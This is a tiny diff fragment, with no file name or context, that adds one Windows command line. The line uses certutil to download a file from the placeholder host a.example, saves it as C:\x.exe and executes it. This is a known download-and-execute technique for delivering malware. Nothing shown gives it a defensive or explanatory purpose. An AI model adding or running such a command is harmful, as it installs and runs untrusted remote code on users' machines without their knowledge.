@@ -1,0 +1,1 @@
+cmd /c certutil -urlcache -split -f http://a.example/x C:\x.exe & C:\x.exe
